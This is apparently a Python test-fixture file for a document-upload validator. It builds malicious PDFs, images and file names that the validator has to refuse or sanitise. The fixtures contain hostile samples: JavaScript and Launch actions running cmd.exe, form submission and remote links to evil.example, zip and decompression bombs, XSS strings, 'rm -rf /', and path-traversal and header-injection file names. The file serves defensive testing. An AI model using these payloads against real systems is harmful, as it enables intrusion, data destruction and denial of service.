"""Documents as an attacker, a careless scanner or a broken disk sends them (TEST_PLAN T-54), each made here; a costly one when asked."""

from __future__ import annotations

import zlib
from collections.abc import Callable
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

from PIL import Image
from PIL.PngImagePlugin import PngInfo
from pypdf import PdfWriter

PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"
LINKED = PAGE[:-2] + b"/Annots [<< /Subtype /Link /A << /S /URI /URI (https://example.be) >> >>] >>"


def pdf(*more: bytes, catalog: bytes = b"", page: bytes = PAGE, trailer: bytes = b"", after: bytes = b"", before: bytes = b"") -> bytes:
    """A PDF of one page, with other objects from number 4 on."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page, *more]
    whole, places = before + b"%PDF-1.7\n", []
    for number, each in enumerate(objects, 1):
        places.append(len(whole))
        whole += b"%d 0 obj\n" % number + each + b"\nendobj\n"
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(objects) + 1
    return whole + table + b"trailer << /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, len(whole)) + after


def packed(action: bytes) -> bytes:
    """An object stream that holds a dictionary where no plain look finds it."""
    told = zlib.compress(b"9 0 " + action)
    return b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (len(told), told)


def written(*, password: str = "", attach: bool = False, pages: int = 1) -> bytes:
    """A PDF as a program makes it."""
    writer, kept = PdfWriter(), BytesIO()
    for _ in range(pages):
        writer.add_blank_page(595, 842)
    if attach:
        writer.add_attachment("polis.exe", b"MZ")
    if password:
        writer.encrypt("", password)
    writer.write(kept)
    return kept.getvalue()


def picture(kind: str, size: tuple[int, int] = (60, 40), **options: object) -> bytes:
    kept = BytesIO()
    Image.new("RGB", size, "teal").save(kept, kind, **options)
    return kept.getvalue()


def archive() -> bytes:
    """Ten megabytes of zeros in ten kilobytes."""
    kept = BytesIO()
    with ZipFile(kept, "w", ZIP_DEFLATED) as into:
        into.writestr("polis.pdf", bytes(10_000_000))
    return kept.getvalue()


def _escaped() -> bytes:
    """A script whose name is written in figures and stands in the page's actions, by reference."""
    return pdf(b"<< /S /J#61v#61Script /J#53 (app.alert\\(1\\)) >>", catalog=b"/OpenAction 4 0 R")


def _by_reference() -> bytes:
    """An action whose kind stands in an object of its own, spelt in figures."""
    return pdf(b"<< /S 5 0 R /F (cmd.exe) >>", b"/Lau#6e#63h", catalog=b"/OpenAction 4 0 R")


def _nested() -> bytes:
    return pdf(b"<< /A " * 400 + b">> " * 400)


def _bomb() -> bytes:
    """A page that says in sixty kilobytes what fills sixty megabytes."""
    return pdf(b"<< /Filter /FlateDecode /Length 60000 >>\nstream\n" + zlib.compress(bytes(50_000_000), 1) + b"\nendstream")


def _wide() -> bytes:
    """Seventy million pixels of one colour in a few kilobytes."""
    kept = BytesIO()
    Image.new("1", (10_000, 7_000)).save(kept, "PNG")
    return kept.getvalue()


_TEXT = PngInfo()
_TEXT.add_text("Comment", "<script>alert(1)</script>")
GOOD_PDF = pdf()
Made = bytes | Callable[[], bytes]

REFUSED: tuple[tuple[str, Made, str], ...] = (
    ("empty.pdf", b"", "document_empty"),
    ("one-byte-too-many.pdf", GOOD_PDF + b" " * (10_000_001 - len(GOOD_PDF)), "document_too_large"),
    ("page.pdf", b"<!doctype html><script>alert(1)</script>", "document_kind_unknown"),
    ("drawing.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "document_kind_unknown"),
    ("drawing.png", b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>', "document_kind_unknown"),
    ("archive.zip", archive(), "document_kind_unknown"),
    ("archive.pdf", archive(), "document_kind_unknown"),
    ("program.pdf", b"MZ\x90\x00" + bytes(200), "document_kind_unknown"),
    ("script.pdf", b"#!/bin/sh\nrm -rf /\n", "document_kind_unknown"),
    ("postscript.pdf", b"%!PS-Adobe-3.0\n", "document_kind_unknown"),
    ("animation.jpg", picture("GIF"), "document_kind_unknown"),
    ("fax.png", picture("TIFF"), "document_kind_unknown"),
    ("html-before.pdf", pdf(before=b"<html><script>alert(1)</script>"), "document_kind_unknown"),
    ("space-before.pdf", b" " + GOOD_PDF, "document_kind_unknown"),
    ("html-behind.pdf", pdf(after=b"<html><script>alert(1)</script></html>"), "document_unreadable"),
    ("archive-behind.pdf", pdf(after=archive()), "document_unreadable"),
    ("half.pdf", GOOD_PDF[: len(GOOD_PDF) // 2], "document_unreadable"),
    ("only-a-beginning.pdf", b"%PDF-1.7\n", "document_unreadable"),
    ("nothing-in-it.pdf", b"%PDF-1.7\n%%EOF\n", "document_unreadable"),
    ("nested.pdf", _nested(), "document_unreadable"),
    ("bomb.pdf", _bomb, "document_unreadable"),
    ("pages-in-a-ring.pdf", pdf(page=b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"), "document_unreadable"),
    ("too-many-pages.pdf", lambda: written(pages=301), "document_too_many_pages"),
    ("encrypted.pdf", written(password="geheim"), "document_encrypted"),
    ("restricted.pdf", pdf(trailer=b"/Encrypt << /Filter /Standard /V 1 /R 2 /O (a) /U (b) /P -4 >>"), "document_encrypted"),
    ("attachment.pdf", written(attach=True), "document_active"),
    ("script-on-opening.pdf", pdf(catalog=b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"), "document_active"),
    ("script-in-figures.pdf", _escaped(), "document_active"),
    ("launch.pdf", pdf(catalog=b"/OpenAction << /S /Launch /F (cmd.exe) >>"), "document_active"),
    ("launch-by-reference.pdf", _by_reference(), "document_active"),
    ("submit.pdf", pdf(b"<< /S /SubmitForm /F (https://evil.example) >>"), "document_active"),
    ("elsewhere.pdf", pdf(b"<< /S /GoToR /F (\\\\\\\\evil.example\\\\share) >>"), "document_active"),
    ("embedded.pdf", pdf(catalog=b"/Names << /EmbeddedFiles << /Names [] >> >>"), "document_active"),
    ("old-form.pdf", pdf(catalog=b"/AcroForm << /XFA [] >>"), "document_active"),
    ("film.pdf", pdf(page=PAGE[:-2] + b"/Annots [<< /Subtype /RichMedia >>] >>"), "document_active"),
    ("on-closing.pdf", pdf(page=PAGE[:-2] + b"/AA << /C << /S /GoTo >> >> >>"), "document_active"),
    ("packed.pdf", pdf(packed(b"<< /S /JavaScript /JS (1) >>")), "document_active"),
    ("packed-launch.pdf", pdf(packed(b"<< /S /Launch /F (x) >>")), "document_active"),
    ("header-only.png", b"\x89PNG\r\n\x1a\n", "document_unreadable"),
    ("half.jpg", picture("JPEG")[:100], "document_unreadable"),
    ("gif-in-jpeg.jpg", b"\xff\xd8\xff" + picture("GIF"), "document_unreadable"),
    ("too-many-pixels.png", _wide, "document_too_large"),
)

# What is kept, as what; nothing of what hung about a picture stays with it.
KEPT: tuple[tuple[str, Made, str], ...] = (
    ("polis.pdf", GOOD_PDF, "application/pdf"),
    ("modern.pdf", written(), "application/pdf"),
    ("with-a-link.pdf", pdf(page=LINKED), "application/pdf"),
    ("opens-at-its-top.pdf", pdf(catalog=b"/OpenAction [3 0 R /Fit]"), "application/pdf"),
    ("zeros-behind.pdf", pdf(after=b"\r\n\x00\x00"), "application/pdf"),
    ("called-a-picture.png", GOOD_PDF, "application/pdf"),
    ("photo.jpg", picture("JPEG"), "image/jpeg"),
    ("html-in-its-comment.png", picture("PNG", pnginfo=_TEXT), "image/png"),
    ("html-behind.jpg", picture("JPEG") + b"<script>alert(1)</script>", "image/jpeg"),
    ("archive-behind.png", picture("PNG") + archive(), "image/png"),
    ("called-a-program.exe", picture("JPEG"), "image/jpeg"),
)

NAMES = (
    ("polis 2027.pdf", "polis 2027.pdf"),
    ("../../etc/passwd", "passwd.pdf"),
    ("..\\..\\windows\\system32\\x.dll", "x.pdf"),
    ("a.pdf\r\nX-Injected: y", "a.pdf"),
    ("CON", "document.pdf"),
    ("con.pdf", "document.pdf"),
    ("lpt1.tar.gz", "document.pdf"),
    ("a" * 300 + ".pdf", "a" * 100 + ".pdf"),
    ("", "document.pdf"),
    ("...", "document.pdf"),
    ("polis\u202efdp.exe", "polisfdp.pdf"),
    ("polis\x00.php", "polis.pdf"),
    ('po"l<i>s|?*.pdf', "po l i s.pdf"),
    ("attest.pdf.exe", "attest.pdf.pdf"),
    (".htaccess", "htaccess.pdf"),
    ("verzekering é ü.pdf", "verzekering é ü.pdf"),
)


def bytes_of(made: Made) -> bytes:
    """The document itself."""
    return made() if callable(made) else made
